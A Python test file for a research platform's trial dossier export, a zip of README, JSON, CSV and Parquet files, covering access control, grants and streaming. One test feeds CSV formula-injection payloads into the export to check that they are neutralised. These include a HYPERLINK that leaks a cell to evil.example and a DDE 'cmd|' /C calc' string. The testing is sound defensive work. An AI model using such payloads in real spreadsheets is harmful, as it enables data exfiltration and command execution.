"""GET /api/v1/trials/{id}/dossier and dossiers.write_dossier: one zip, consistent with the API."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timedelta

import psycopg
import pyarrow.parquet as pq
import pytest

from livinglab_platform.access import Principal
from livinglab_platform.core.errors import ForbiddenError
from livinglab_platform.core.quantities import unit_symbol
from livinglab_platform.data import dossiers
from livinglab_platform.registry.schemas import Role
from livinglab_platform.trials import grants
from livinglab_platform.trials.schemas import GrantCreate
from tests.api.readings import insert_readings, trial_with_windows
from tests.api.world import CLI, T0, World, add_device, trial_input

FILES = ["README.txt", "trial.json", "audit.csv", "devices.csv", "data.parquet"]
HOUR = timedelta(hours=1)
# dev-a (startup-a's own) works for the trial from before the trial's first day; dev-b
# (startup-b's) for one hour. Each device has a reading a minute from T0 - 6 h for 30 h.
WINDOWS = [
    ("dev-a", T0 - 2 * HOUR, T0 + HOUR),
    ("dev-b", T0 + 5 * HOUR, T0 + 6 * HOUR),
]


def _trial(world: World) -> int:
    with psycopg.connect(world.dsn) as conn:
        for device_id, org in (("dev-a", "startup-a"), ("dev-b", "startup-b")):
            sensor = add_device(conn, device_id, org)
            insert_readings(conn, sensor, start=T0 - 6 * HOUR, n=30 * 60)
        # Delivery ledger of dev-a: batch 3 of 1..4 is missing.
        conn.execute(
            "INSERT INTO deliveries (device_id, seq, readings, received_at)"
            " SELECT 'dev-a', s, 10, now() FROM unnest(ARRAY[1, 2, 4]) s"
        )
        return trial_with_windows(
            conn,
            "startup-a",
            WINDOWS,
            actions=("submit", "approve", "deploy", "start"),
            data_sharing_terms="Raw data stay with the partners; aggregates public in 2027.",
        )


def _expected(
    world: World, windows: list[tuple[str, datetime, datetime]]
) -> list[tuple[str, datetime, float]]:
    with psycopg.connect(world.dsn) as conn:
        rows: list[tuple[str, datetime, float]] = []
        for device_id, start, end in windows:
            rows += conn.execute(
                "SELECT s.device_id, r.time, r.value FROM readings r"
                " JOIN sensors s ON s.id = r.sensor_id"
                " WHERE s.device_id = %s AND r.time >= %s AND r.time < %s",
                (device_id, start, end),
            ).fetchall()
        return sorted(rows)


def _readings(archive: zipfile.ZipFile) -> list[tuple[str, datetime, float]]:
    table = pq.read_table(io.BytesIO(archive.read("data.parquet")))
    return sorted(
        zip(
            table.column("device_id").to_pylist(),
            table.column("time").to_pylist(),
            table.column("value").to_pylist(),
            strict=True,
        )
    )


def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"))))


def test_the_dossier_holds_five_consistent_files(client, world: World):
    trial_id = _trial(world)
    partner = world.headers("partner")
    r = client.get(f"/api/v1/trials/{trial_id}/dossier", headers=partner)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/zip"
    assert (
        r.headers["content-disposition"]
        == f'attachment; filename="livinglab-trial-{trial_id}-dossier.zip"'
    )
    assert int(r.headers["content-length"]) == len(r.content)
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    assert archive.testzip() is None
    assert archive.namelist() == FILES

    trial = client.get(f"/api/v1/trials/{trial_id}", headers=partner).json()
    assert json.loads(archive.read("trial.json")) == trial

    entries = client.get(f"/api/v1/trials/{trial_id}/audit", headers=partner).json()
    rows = _csv(archive, "audit.csv")
    assert [r["action"] for r in rows] == [e["action"] for e in entries]
    assert [r["action"] for r in rows][-2:] == ["deploy", "start"]
    for row, entry in zip(rows, entries, strict=True):
        assert datetime.fromisoformat(row["time"]) == datetime.fromisoformat(
            entry["time"]
        )
        assert row["actor"] == entry["actor"]
        assert row["reason"] == (entry["reason"] or "")
        assert json.loads(row["details"]) == entry["details"]

    devices = _csv(archive, "devices.csv")
    assert [
        (d["device_id"], datetime.fromisoformat(d["starts_at"]), d["ends_at"][-1])
        for d in devices
    ] == [(device, start, "Z") for device, start, _ in WINDOWS]
    assert [d["organisation_id"] for d in devices] == ["startup-a", "startup-b"]
    assert {d["site_id"] for d in devices} == {"site-1"}
    assert devices[0]["sensors"] == "pm2_5 [µg/m³]"  # the unit as people write it
    assert [d["delivery_completeness"] for d in devices] == ["0.7500", ""]

    readings = _readings(archive)
    assert len(readings) == 3 * 60 + 60
    assert readings == _expected(world, WINDOWS)

    readme = archive.read("README.txt").decode("utf-8")
    for text in [
        trial["title"],
        "State:         running",
        "Period:        2026-05-01 to 2026-09-30",
        "by Partner (startup-a, partner)",
        "Raw data stay with the partners; aggregates public in 2027.",
        *FILES,
    ]:
        assert text in readme, text


def test_a_granted_organisation_gets_only_the_granted_period(client, world: World):
    trial_id = _trial(world)
    grant = (T0, T0 + 5 * HOUR + 30 * timedelta(minutes=1))
    with psycopg.connect(world.dsn) as conn:
        grants.create_grant(
            conn,
            CLI,
            trial_id,
            grant=GrantCreate(
                organisation_id="ul-fe", starts_at=grant[0], ends_at=grant[1]
            ),
        )
        conn.commit()
    r = client.get(
        f"/api/v1/trials/{trial_id}/dossier", headers=world.headers("researcher")
    )
    assert r.status_code == 200, r.text
    readings = _readings(zipfile.ZipFile(io.BytesIO(r.content)))
    inside = [
        (device, max(start, grant[0]), min(end, grant[1]))
        for device, start, end in WINDOWS
    ]
    assert len(readings) == 60 + 30
    assert readings == _expected(world, inside)


def test_viewers_and_strangers_get_json_errors(client, world: World):
    trial_id = _trial(world)
    url = f"/api/v1/trials/{trial_id}/dossier"
    r = client.get(url, headers=world.headers("viewer"))
    assert r.status_code == 403
    assert "aggregated data only" in r.json()["detail"]
    r = client.get(url, headers=world.headers("other"))
    assert r.status_code == 404
    assert r.json()["detail"] == f"trial {trial_id} not found"
    assert client.get(url).status_code == 401
    r = client.get("/api/v1/trials/999999/dossier", headers=world.headers("operator"))
    assert r.status_code == 404
    assert "content-disposition" not in r.headers


class _Pipe:
    """A stream that cannot seek, as stdout piped into another program."""

    def __init__(self) -> None:
        self.data = bytearray()

    def write(self, b: bytes) -> int:
        self.data += b
        return len(b)

    def flush(self) -> None:
        pass

    def close(self) -> None:
        pass

    def seekable(self) -> bool:
        return False

    def tell(self) -> int:
        raise OSError("not seekable")


def test_write_dossier_streams_to_a_pipe_and_reports_progress(world: World):
    trial_id = _trial(world)
    seen: list[int] = []
    pipe = _Pipe()
    with psycopg.connect(world.dsn) as conn:
        summary = dossiers.write_dossier(conn, CLI, trial_id, pipe, on_rows=seen.append)  # type: ignore[arg-type]
    assert summary == dossiers.DossierSummary(trial_id=trial_id, rows=240, files=FILES)
    assert sum(seen) == 240
    archive = zipfile.ZipFile(io.BytesIO(bytes(pipe.data)))
    assert archive.testzip() is None
    assert archive.namelist() == FILES
    # Without seeking, sizes follow the data; deflated entries keep streaming readers working.
    assert archive.getinfo("data.parquet").compress_type == zipfile.ZIP_DEFLATED
    assert _readings(archive) == _expected(world, WINDOWS)
    # Seekable output keeps the already compressed Parquet stored as is.
    out = io.BytesIO()
    with psycopg.connect(world.dsn) as conn:
        dossiers.write_dossier(conn, CLI, trial_id, out)
    stored = zipfile.ZipFile(out).getinfo("data.parquet")
    assert stored.compress_type == zipfile.ZIP_STORED


def test_a_trial_without_devices_has_an_empty_data_file(world: World):
    with psycopg.connect(world.dsn) as conn:
        trial_id = trial_with_windows(conn, "startup-a", [], actions=())
        out = io.BytesIO()
        viewer = Principal(
            person_id=world.person_ids["viewer"],
            name="Viewer",
            organisation_id="mol",
            role=Role.viewer,
        )
        with pytest.raises(ForbiddenError, match="aggregated data only"):
            dossiers.write_dossier(conn, viewer, trial_id, out)
        assert out.getvalue() == b""
        summary = dossiers.write_dossier(conn, CLI, trial_id, out)
    assert summary.rows == 0
    archive = zipfile.ZipFile(out)
    table = pq.read_table(io.BytesIO(archive.read("data.parquet")))
    assert table.num_rows == 0
    assert table.column_names == [
        "time",
        "device_id",
        "sensor",
        "quantity",
        "unit",
        "value",
    ]
    assert _csv(archive, "devices.csv") == []
    assert [r["action"] for r in _csv(archive, "audit.csv")] == ["create"]


def test_the_dossiers_csvs_hold_no_formulas(client, world: World):
    # A partner's text, as a spreadsheet would run it, in the trial's audit trail.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    partner = world.headers("partner")
    trial = trial_input(title="@SUM(1+1)*cmd|' /C calc'!A0").model_dump(mode="json")
    r = client.post("/api/v1/trials", headers=partner, json=trial)
    assert r.status_code == 201, r.text
    trial_id = r.json()["id"]
    for action, reason in (("submit", formula), ("withdraw", "-1+1")):
        r = client.post(
            f"/api/v1/trials/{trial_id}/transitions",
            headers=partner,
            json={"action": action, "reason": reason},
        )
        assert r.status_code == 200, r.text
    r = client.get(f"/api/v1/trials/{trial_id}/dossier", headers=partner)
    assert r.status_code == 200, r.text
    archive = zipfile.ZipFile(io.BytesIO(r.content))
    for name in ("audit.csv", "devices.csv"):
        for row in csv.reader(io.StringIO(archive.read(name).decode(), newline="")):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n"), (
                    name,
                    cell,
                )
    reasons = [row["reason"] for row in _csv(archive, "audit.csv")]
    assert "'" + formula in reasons
    assert "'-1+1" in reasons
    # trial.json keeps the exact text.
    assert json.loads(archive.read("trial.json"))["title"].startswith("@SUM")


@pytest.mark.parametrize("who", ["researcher", "partner", "operator"])
def test_devices_csv_shows_only_what_the_devices_api_shows(
    client, world: World, who: str
):
    # ul-fe's researcher reads the trial through a grant, and gets 404 for both its devices.
    trial_id = _trial(world)
    with psycopg.connect(world.dsn) as conn:
        grants.create_grant(
            conn,
            CLI,
            trial_id,
            grant=GrantCreate(
                organisation_id="ul-fe", starts_at=T0, ends_at=T0 + 6 * HOUR
            ),
        )
        conn.commit()
    headers = world.headers(who)
    r = client.get(f"/api/v1/trials/{trial_id}/dossier", headers=headers)
    assert r.status_code == 200, r.text
    devices = _csv(zipfile.ZipFile(io.BytesIO(r.content)), "devices.csv")
    assert [d["device_id"] for d in devices] == ["dev-a", "dev-b"]
    visible = 0
    for row in devices:
        # The assignment itself is in trial.json for every reader of the trial.
        assert row["starts_at"].endswith("Z")
        assert row["ends_at"].endswith("Z")
        device = client.get(f"/api/v1/devices/{row['device_id']}", headers=headers)
        if device.status_code == 404:
            assert (
                row["site_id"],
                row["organisation_id"],
                row["sensors"],
                row["delivery_completeness"],
            ) == ("", "", "", "")
            continue
        assert device.status_code == 200, device.text
        visible += 1
        shown = device.json()
        assert row["site_id"] == shown["site_id"]
        assert row["organisation_id"] == (shown["organisation_id"] or "")
        assert row["sensors"] == "; ".join(
            f"{s['key']} [{unit_symbol(s['unit'])}]" for s in shown["sensors"]
        )
    assert visible == (0 if who == "researcher" else 2)
